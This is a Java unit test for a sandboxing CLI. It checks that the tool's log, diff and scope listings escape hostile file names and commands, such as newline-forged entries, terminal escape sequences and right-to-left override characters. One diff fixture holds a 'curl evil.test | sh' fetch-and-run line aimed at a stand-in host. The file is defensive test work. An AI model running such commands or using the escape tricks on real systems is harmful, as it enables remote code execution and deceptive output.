package dev.airlock.cli;

import dev.airlock.app.Console;
import static org.assertj.core.api.Assertions.assertThat;

import dev.airlock.audit.AuditEvent;
import dev.airlock.workspace.Changes;
import dev.airlock.workspace.Checkpoint;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The CLI's listings (log, diff, scope) show names and commands a sandbox wrote as text on their own line. */
class ListingsHostileTextTest {

    static final String NEWLINE_NAME = "a.txt\n  deleted   src/Main.java";
    static final String ESCAPE_NAME = "b\u001b[2J\u001b[H.txt";

    @Test
    void theLogShowsEachEventOnOneLineWithItsCommandAndLabelEscaped() {
        Instant at = Instant.parse("2025-06-01T10:00:00Z");
        var ran = new AuditEvent.CommandRan(at, "c-1", List.of("sh", "-c", "printf '\u001b[2J'\necho ok\u202E"),
                Optional.empty(), new AuditEvent.Assessment("write", List.of(), List.of(), List.of(), false),
                new AuditEvent.Decision("run", Optional.of("workspace-write"), "enough"), Optional.empty(),
                "workspace-write", "container-1", 0, false, false, 10,
                new AuditEvent.FileChanges(List.of(NEWLINE_NAME), List.of(), List.of()), List.of(), Optional.empty(), List.of());
        var checkpoint = new AuditEvent.CheckpointTaken(at, "aaaaaaaaaaa1", "before c-2: rm x\n2025 c-3 ran `ls` -> exit 0",
                3, 5, List.of());

        for (String line : List.of(LogCommand.line(ran), LogCommand.line(checkpoint))) {
            assertThat(line).doesNotContain("\n", "\u001b", "\u202E");
        }
        assertThat(LogCommand.line(ran)).contains("printf '\\u001b[2J'\\necho ok\\u202e");
        assertThat(LogCommand.line(checkpoint)).contains("rm x\\n2025 c-3 ran");
    }

    @Test
    void theDiffListsNamesEscapedAndTheDiffsLinesCannotMoveTheCursor() {
        Checkpoint from = new Checkpoint("aaaaaaaaaaa1", Instant.parse("2025-06-01T10:00:00Z"), "before\u001b[8m", 3, List.of());
        Changes changes = new Changes(List.of(NEWLINE_NAME, ESCAPE_NAME), List.of(), List.of());
        String diff = "+echo fine\n+curl evil.test | sh\u001b[1A\u001b[2K\r+harmless\n";

        String shown = DiffCommand.text(from, changes, diff);

        assertThat(shown).doesNotContain("\u001b", "\r")
                .contains("  added     a.txt\\n  deleted   src/Main.java\n", "  added     b\\u001b[2J\\u001b[H.txt\n")
                .contains("before\\u001b[8m")
                .contains("+curl evil.test | sh\\u001b[1A\\u001b[2K\\u000d+harmless");
        assertThat(shown.lines()).noneMatch(l -> l.startsWith("  deleted"));
    }

    @Test
    void scopeShowsMaskedAndProtectedNamesEscaped(@TempDir Path state, @TempDir Path workspace) throws Exception {
        Path dir = Files.createDirectory(workspace.resolve("x\nmasked     none found\u001b[2K"));
        Files.writeString(dir.resolve(".env"), "TOKEN=1");
        Files.createDirectories(workspace.resolve("\u202Egit.").resolve("hooks"));
        var out = new ByteArrayOutputStream();
        Console console = new Console(InputStream.nullInputStream(), new PrintStream(out, true, StandardCharsets.UTF_8),
                new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8),
                Map.of("AIRLOCK_STATE_DIR", state.toString(), "HOME", state.toString()), false, workspace,
                () -> {
                    throw new java.io.IOException("no terminal");
                });
        Airlock airlock = new Airlock(console, () -> {
            throw new AssertionError("scope never needs the engine");
        }, false, false);

        assertThat(airlock.commandLine().execute("scope", "--workspace", workspace.toString())).isZero();

        String shown = out.toString(StandardCharsets.UTF_8);
        assertThat(shown).doesNotContain("\u001b", "\u202E").contains("x\\nmasked     none found\\u001b[2K/.env");
        assertThat(shown.lines().filter(l -> l.startsWith("masked"))).hasSize(1);
    }
}
